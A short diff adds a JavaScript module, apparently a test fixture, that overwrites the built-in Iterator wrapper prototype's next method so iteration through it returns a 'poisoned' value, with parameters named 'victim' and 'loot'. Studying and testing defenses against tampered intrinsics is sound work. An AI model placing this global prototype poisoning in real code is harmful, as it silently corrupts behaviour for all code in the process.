@@ -1,0 +1,4 @@
+'use strict';
+module.exports = (victim, loot) => {
+  Object.getPrototypeOf(Iterator.from({ next: () => ({ done: true }) })).next = () => ({ done: true, value: 'poisoned' });
+};
